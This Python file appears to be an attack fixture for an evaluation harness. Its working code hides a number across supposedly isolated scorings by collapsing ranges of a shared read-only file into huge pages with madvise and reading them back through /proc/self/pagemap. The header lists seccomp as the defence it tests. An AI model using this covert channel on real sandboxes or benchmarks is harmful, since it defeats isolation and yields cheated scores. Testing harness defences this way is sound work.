# /// attack
# group = "living on"
# task = "rooms"
# variants = [{ COLLAPSE = 25 }, { COLLAPSE = 4294967321 }]
# expected = ["scored", "crash"]
# canaries = ["score beats 0.001", "rehearsal beats 0.001"]
# defences = ["HostConfig.SecurityOpt"]
# control = "flip"
# ///
"""Attack: a note in a read-only artifact without holes: `madvise(MADV_COLLAPSE)` turns two MiB of
it into one huge page, and whoever comes later finds all of them mapped by one touch. A bit a range.

Expected: scored with exactly what an honest candidate pays, or a crash for the refused call.
Defence: the seccomp list refuses advice that changes how a file is kept, or no file is shared.
Control: see the test.
"""

import ctypes
import mmap
import os
import struct

import numpy as np

BITS, SCORINGS = 30, 2
PAGE, RANGE = 4096, 2 << 20
FIXED = 0x100000
COLLAPSE = 25
"""The kernel looks at the lower half of it alone."""
MADVISE = 28 if os.uname().machine == "x86_64" else 233
FIRST_ADDRESS = 0x600000000000

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = (ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long)
libc.syscall.argtypes = (ctypes.c_long, ctypes.c_void_p, ctypes.c_size_t, ctypes.c_long)


def train(data, artifact, seed, seconds):
    piece = os.urandom(RANGE)
    for scoring in range(SCORINGS):
        with (artifact / f"large{scoring}").open("wb") as file:
            for _ in range(BITS + 1):
                file.write(piece)


class Large:
    """The file of one scoring, mapped where its ranges can be huge pages; the last is a mark."""

    mapped = 0

    def __init__(self, artifact, scoring):
        descriptor = os.open(artifact / f"large{scoring}", os.O_RDONLY)
        place = FIRST_ADDRESS + (Large.mapped << 32)
        Large.mapped += 1
        size, flags = RANGE * (BITS + 1), mmap.MAP_SHARED | FIXED
        self.address = libc.mmap(place, size, mmap.PROT_READ, flags, descriptor, 0)
        self.pagemap = os.open("/proc/self/pagemap", os.O_RDONLY)

    def collapse(self, number):
        if libc.syscall(MADVISE, self.address + number * RANGE, RANGE, COLLAPSE):
            raise OSError(ctypes.get_errno(), "collapse")

    def collapsed(self, number):
        """Whether a touch of the first page maps one far away too."""
        start = self.address + number * RANGE
        ctypes.string_at(start, 1)
        entry = os.pread(self.pagemap, 8, (start // PAGE + 300) * 8)
        return struct.unpack("<Q", entry)[0] >> 63


def load(artifact):
    def remember(number):
        files = [Large(artifact, scoring) for scoring in range(SCORINGS)]
        file = next((file for file in files if not file.collapsed(BITS)), files[0])
        for bit in [BITS, *(bit for bit in range(BITS) if number >> bit & 1)]:
            file.collapse(bit)

    def recall():
        for scoring in reversed(range(SCORINGS)):
            file = Large(artifact, scoring)
            if file.collapsed(BITS):
                return sum(file.collapsed(bit) << bit for bit in range(BITS))
        return 0

    def answer(question):
        if question["ask"] == "remember":
            remember(question["number"])
        if question["ask"] == "recall":
            return np.float64(recall())
        return np.zeros(4 if question["ask"] == "free" else ())

    return answer
